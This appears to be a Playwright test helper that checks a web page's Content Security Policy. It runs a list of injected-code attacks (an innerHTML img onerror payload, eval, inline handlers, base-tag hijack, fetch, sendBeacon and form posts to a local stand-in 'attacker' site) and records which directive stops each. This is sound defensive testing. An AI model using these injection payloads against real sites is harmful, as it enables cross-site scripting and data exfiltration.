import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

/** Site of another origin, which records and answers every request. */
export type ForeignSite = {
  url: string;
  requests: { path: string; headers: IncomingMessage['headers'] }[];
  /** The answer, an empty script by default. */
  body: string;
  type: string;
  close(): Promise<void>;
};

export async function startForeignSite(): Promise<ForeignSite> {
  const server = createServer((request, response) => {
    site.requests.push({ path: request.url ?? '', headers: request.headers });
    // 204 as the answer to a form keeps the page where it is.
    const status = request.url === '/form' ? 204 : 200;
    response
      .writeHead(status, {
        'Content-Type': site.type,
        'Access-Control-Allow-Origin': '*',
        'Access-Control-Allow-Headers': '*, authorization',
      })
      .end(status === 204 ? undefined : site.body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const site: ForeignSite = {
    // A subdomain, because the policy allows `localhost` itself.
    url: `http://foreign.localhost:${(server.address() as AddressInfo).port}`,
    requests: [],
    body: 'window.hit = true;',
    type: 'text/javascript',
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
  return site;
}

/**
 * Defines the attacks in the page, for `attack` to start. Records the obstacle of each: a
 * directive of the policy, or the name of an error.
 */
export async function armAttacks(page: Page): Promise<void> {
  const table = Object.entries(ATTACKS)
    .map(([name, run]) => `${JSON.stringify(name)}: ${run.toString()}`)
    .join(',\n');
  await page.addInitScript(`
    const attacks = {${table}};
    window.stoppedBy = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      window.stoppedBy.push(effectiveDirective);
    });
    window.addEventListener('attack', ({ detail }) => {
      setTimeout(async () => {
        try { await attacks[detail.name](detail.site); }
        catch (error) { window.stoppedBy.push(error.name); }
      });
    });
  `);
}

/**
 * Starts an attack in a task of the page, because the policy does not apply to code evaluated
 * through the protocol. `site` is the attacker's site.
 */
export function attack(page: Page, name: keyof typeof ATTACKS, site: string): Promise<void> {
  return page.evaluate(
    (detail) => {
      Object.assign(window, { hit: false, stoppedBy: [] });
      window.dispatchEvent(new CustomEvent('attack', { detail }));
    },
    { name, site },
  );
}

/** State of the attack: `hit` if its code ran, and its obstacles. */
export const outcome = (page: Page) =>
  page.evaluate(() => ({
    hit: Reflect.get(window, 'hit') === true,
    stoppedBy: [...(Reflect.get(window, 'stoppedBy') as string[])],
  }));

type Attack = (site: string) => unknown;

/** Attacks by injected code. Each sets `window.hit` or requests the attacker's site. */
export const ATTACKS = {
  innerHTML: () => {
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = '<img src="x" onerror="window.hit = true">';
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.append(document.createTextNode('window.hit = true'));
    document.body.append(script);
  },
  'inline handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.hit = true');
    document.body.append(button);
    button.click();
  },
  // oxlint-disable-next-line no-eval -- the attack itself
  eval: () => void globalThis.eval('window.hit = true'),
  'new Function': () => {
    const run = Reflect.construct(Function, ['window.hit = true']) as () => void;
    run();
  },
  'foreign script': (site) => {
    const script = document.createElement('script');
    script.src = `${site}/script`;
    document.body.append(script);
  },
  'foreign fetch': (site) => fetch(`${site}/fetch`),
  sendBeacon: (site) => navigator.sendBeacon(`${site}/beacon`, 'x'),
  'foreign image': (site) => {
    const image = new Image();
    image.src = `${site}/image`;
    document.body.append(image);
  },
  iframe: (site) => {
    const frame = document.createElement('iframe');
    frame.src = `${site}/frame`;
    document.body.append(frame);
  },
  'style element': () => {
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) }';
    document.head.append(style);
    (window as unknown as { hit: boolean }).hit =
      getComputedStyle(document.body).outlineWidth === '7px';
  },
  'style attribute': () => {
    const box = document.createElement('div');
    box.setAttribute('style', 'outline: 7px solid red');
    document.body.append(box);
    (window as unknown as { hit: boolean }).hit = getComputedStyle(box).outlineWidth === '7px';
  },
  base: (site) => {
    const base = document.createElement('base');
    base.href = `${site}/`;
    document.head.append(base);
    (window as unknown as { hit: boolean }).hit = document.baseURI.startsWith(site);
  },
  'form post': (site) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${site}/form`;
    document.body.append(form);
    form.submit();
  },
  'javascript: address': () => {
    window.location.href = 'javascript:void (window.hit = true)';
  },
  'blob worker': () => {
    const code = new Blob(['postMessage(1)'], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(code));
    worker.addEventListener('message', () => {
      (window as unknown as { hit: boolean }).hit = true;
    });
  },
} as const satisfies Record<string, Attack>;
